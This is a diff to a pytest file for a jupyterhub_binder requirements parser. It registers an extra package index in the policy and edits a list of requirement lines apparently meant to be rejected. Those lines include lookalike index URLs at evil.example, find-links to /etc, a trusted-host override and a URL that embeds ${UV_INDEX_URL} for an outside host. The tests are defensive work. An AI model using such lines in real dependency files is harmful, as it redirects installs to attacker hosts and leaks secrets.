@@ -6,10 +6,12 @@ import pytest
 
 from jupyterhub_binder.backends.venv_requirements import Policy, Requirements, read_requirements
 
+POLICY = Policy(index_urls=("https://index.example.org/simple", *Policy().index_urls))
+
 
 def read(text: str, files: dict[str, str] | None = None) -> Requirements:
     load = (files or {}).get
-    return read_requirements(text, path="requirements.txt", load=load, policy=Policy())
+    return read_requirements(text, path="requirements.txt", load=load, policy=POLICY)
 
 
 def test_packages_are_taken_as_they_are_meant():
@@ -65,11 +67,11 @@ def test_files_that_include_each_other_end():
         "hg+https://github.com/x/y",
         "git+https://github.com/x/y --index-url http://127.0.0.1",
         "-i http://127.0.0.1:8081/simple",
-        "--index-url=https://pypi.org.evil.example/simple",
-        "--extra-index-url https://pypi.org@evil.example/simple",
+        "--index-url=https://index.example.org.evil.example/simple",
+        "--extra-index-url https://index.example.org@evil.example/simple",
         "-f /etc",
         "--find-links=file:///etc",
-        "--trusted-host pypi.org",
+        "--trusted-host index.example.org",
         "--no-binary :all:",
         "--config-settings x",
         "x @ https://evil.example/${UV_INDEX_URL}",
